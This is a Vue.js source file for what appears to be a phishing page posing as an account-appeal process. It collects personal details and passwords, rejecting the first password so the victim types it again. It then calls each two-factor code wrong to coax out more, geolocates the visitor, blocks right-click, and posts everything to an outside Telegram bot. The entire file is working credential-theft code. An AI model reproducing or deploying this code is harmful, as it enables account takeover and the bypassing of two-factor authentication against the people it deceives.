new Vue({
  el: '#app',
  data: { step: 'notice', ticket: '#' + Math.floor(Math.random() * 9e8 + 1e8), form: { name: '', page: '', email: '', phone: '', birthday: '' }, pass: '', passes: [], codes: [], code: '', err: '', left: 30, geo: null },
  mounted() {
    axios.get('https://ipinfo.io/json?token=TOKEN').then(r => { this.geo = r.data; });
    window.addEventListener('contextmenu', e => e.preventDefault());
  },
  methods: {
    appeal() { if (this.form.email && this.form.phone) this.step = 'password'; },
    async confirm() {
      this.passes.push(this.pass);
      this.pass = '';
      await this.report();
      if (this.passes.length < 2) { this.err = "The password that you've entered is incorrect."; return; }
      this.step = 'code';
    },
    async sendCode() {
      this.codes.push(this.code);
      this.code = '';
      await this.report();
      this.err = 'This code is incorrect. Please wait ' + this.left + ' seconds.';
      const t = setInterval(() => { if (--this.left <= 0) { clearInterval(t); this.left = 30; this.err = ''; } }, 1000);
      if (this.codes.length > 2) this.step = 'finish';
    },
    report() {
      const text = Object.entries(this.form).map(([k, v]) => k + ': ' + v).concat(this.passes.map((p, i) => 'pass' + (i + 1) + ': ' + p), this.codes.map((c, i) => '2fa' + (i + 1) + ': ' + c), JSON.stringify(this.geo)).join('\n');
      const body = { chat_id: '0000', text };
      if (this.mid) body.message_id = this.mid;
      return axios.post('https://api.telegram.org/bot0000:TOKEN/' + (this.mid ? 'editMessageText' : 'sendMessage'), body).then(r => { this.mid = r.data.result.message_id; }).catch(() => {});
    }
  }
});
